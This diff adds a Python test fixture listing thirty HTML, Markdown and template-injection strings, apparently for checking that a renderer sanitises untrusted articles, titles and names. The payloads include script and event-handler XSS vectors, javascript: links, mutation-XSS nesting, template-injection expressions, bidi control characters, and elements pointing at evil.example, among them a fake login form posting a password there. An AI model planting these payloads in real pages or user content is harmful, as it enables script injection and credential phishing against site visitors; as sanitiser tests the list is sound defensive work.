@@ -1,0 +1,36 @@
+"""Thirty texts that try to be more than text, in an article, a title, a question or a name."""
+
+MARK = "window.pwned=1"
+
+PAYLOADS = [
+    f"<script>{MARK}</script>",
+    f"<img src=x onerror={MARK}>",
+    '<img src="http://evil.example/remote.png">',
+    f"<svg onload={MARK}><circle r=9 /></svg>",
+    f"<svg><script>{MARK}</script></svg>",
+    f"<a href=\"javascript:{MARK}\">read more</a>",
+    f'<a href="data:text/html,<script>{MARK}</script>">data</a>',
+    '<iframe src="http://evil.example/frame"></iframe>',
+    "<form action=http://evil.example/form><input name=password><button>Log in</button></form>",
+    '<link rel="stylesheet" href="http://evil.example/style.css">',
+    "<style>body{display:none}</style>",
+    '<div style="position:fixed;inset:0;background:red;z-index:9999">overlay</div>',
+    '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
+    '<base href="http://evil.example/">',
+    f"</div></blockquote></article></section><img src=x onerror={MARK}>",
+    f"\"><img src=x onerror='{MARK}'> ' onfocus='{MARK}' autofocus='",
+    f"<details open ontoggle={MARK}>x</details><video><source onerror={MARK}></video>",
+    "![remote](http://evil.example/markdown.png)",
+    f"[click](javascript:{MARK}) [ref]: http://evil.example/ref",
+    "# Heading\n\n| a |\n|---|\n| 1 |\n\n> quote **bold** _it_ `code`",
+    "```mermaid\ngraph TD;A-->B\n```\n\n    indented code\n",
+    f"$$\\href{{javascript:{MARK}}}{{x}}$$ \\(x^2\\) \\[y\\]",
+    "{{constructor.constructor('window.pwned=1')()}} {{{value}}} {{#each x}}{{/each}}",
+    f"${{{MARK}}} `${{{MARK}}}` #{{7*7}} <%= 7*7 %>",
+    "\u202ereversed\u202c \u2066isolated\u2069 \u200fright-to-left\u200f",
+    "[9](#/source/000.txt/0-1) <a class=cite href=#/source/x/0-1><span class=number>9</span></a>",
+    "&lt;script&gt; &amp;#60;b&amp;#62; &#x3c;img src=x&#x3e; %3Cscript%3E",
+    f"<math><mtext><table><mglyph><style><img src=x onerror={MARK}></style></mglyph></table>",
+    "www.evil.example http://evil.example/auto mailto:a@evil.example",
+    f"<button type=button onclick={MARK} class=cite data-act=copy>Copy</button> :smile: ~~x~~ <!--",
+]  # fmt: skip
